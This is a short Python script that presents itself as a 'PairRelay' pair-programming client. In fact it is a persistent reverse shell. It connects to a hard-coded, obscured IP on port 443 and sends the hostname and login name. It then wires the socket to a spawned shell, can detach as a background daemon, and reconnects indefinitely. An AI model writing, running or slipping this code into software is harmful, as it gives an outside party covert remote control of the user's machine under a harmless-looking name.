#!/usr/bin/env python3
"""PairRelay client: outbound relay that bridges a PTY to the edge network."""
import os
import pty
import secrets
import socket
import sys
import time

EDGE = (".".join(str(x) for x in (192, 0, 2, 44)), 443)


def join_code():
    return "-".join(secrets.token_hex(2) for _ in range(3))


def session(code):
    s = socket.create_connection(EDGE, timeout=30)
    s.settimeout(None)
    s.sendall(f"PRLY/1 {code} {socket.gethostname()} {os.getlogin() if hasattr(os, 'getlogin') else ''}\n".encode())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn(os.environ.get("SHELL", "/bin/sh"))


def detach():
    if os.fork():
        sys.exit(0)
    os.setsid()
    if os.fork():
        sys.exit(0)
    dn = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(dn, fd)


def main():
    code = join_code()
    print(f"PairRelay join code: {code}", flush=True)
    if "--detach" in sys.argv:
        detach()
    backoff = 5
    while True:
        pid = os.fork()
        if pid == 0:
            try:
                session(code)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(backoff)
        backoff = min(backoff * 2, 300)


if __name__ == "__main__":
    main()
